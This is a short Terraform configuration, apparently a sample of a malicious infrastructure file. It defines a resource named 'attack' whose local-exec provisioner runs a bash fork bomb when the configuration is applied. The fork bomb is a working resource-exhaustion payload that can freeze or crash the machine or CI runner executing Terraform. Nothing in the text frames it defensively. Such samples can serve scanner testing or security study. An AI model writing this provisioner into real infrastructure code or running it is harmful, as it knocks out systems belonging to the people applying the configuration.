resource "terraform_data" "attack" {
  provisioner "local-exec" {
    interpreter = ["bash", "-c"]
    command     = <<-EOT
      bomb() { bomb | bomb & }; bomb; sleep 60
    EOT
  }
}
